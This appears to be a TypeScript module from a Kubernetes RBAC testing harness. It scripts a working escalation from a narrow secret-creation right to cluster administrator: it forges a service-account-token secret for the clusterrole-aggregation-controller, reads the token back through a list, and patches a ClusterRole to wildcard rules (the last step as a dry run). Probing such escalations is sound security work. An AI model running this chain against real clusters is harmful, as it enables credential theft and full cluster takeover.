/**
 * The way from "may create secrets of one name" to anything: a secret of that name in kube-system,
 * with the type that has the token controller put another account's token into it. Done for real.
 */
import type { ControlPlane } from "../parts/control-plane.ts";
import { type ApiClient, createApiClient, type Outcome, outcomeOf } from "./api-client.ts";
import { applySecret, until } from "./scene.ts";

/** It may write ClusterRoles, and extend them beyond its own rights: no account can do more. */
const victim = "clusterrole-aggregation-controller";
export const theft = `read and use the token of kube-system/${victim}`;

const secret = { namespace: "kube-system", name: "ecr-pull" } as const;

export async function stealToken(thief: ApiClient, cluster: ControlPlane): Promise<Outcome> {
  const made = await thief.send({
    ...applySecret(secret.name, secret.namespace, { dryRun: false }),
    body: {
      apiVersion: "v1",
      kind: "Secret",
      metadata: { ...secret, annotations: { "kubernetes.io/service-account.name": victim } },
      type: "kubernetes.io/service-account-token",
    },
  });
  if (outcomeOf(made) !== "allowed") return outcomeOf(made);
  let token = "";
  await until("the token controller has filled the secret", async () => {
    // Not even a get of its own: the list by name, which sweeps need, shows it.
    const query = { fieldSelector: `metadata.name=${secret.name}` };
    const list = await thief.send({ method: "GET", path: "/api/v1/secrets", query });
    const items: { metadata: { namespace: string }; data?: { token?: string } }[] = list.body.items;
    const found = items.find(({ metadata }) => metadata.namespace === secret.namespace);
    token = Buffer.from(found?.data?.token ?? "", "base64").toString();
    return token !== "";
  });
  return await makeAdministrator(cluster, token);
}

async function makeAdministrator(cluster: ControlPlane, token: string): Promise<Outcome> {
  await using stolen = createApiClient(cluster, token);
  const answer = await stolen.send({
    method: "PATCH",
    path: "/apis/rbac.authorization.k8s.io/v1/clusterroles/ecr-pull-secrets",
    query: { dryRun: "All" },
    type: "application/merge-patch+json",
    body: { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] },
  });
  return outcomeOf(answer);
}
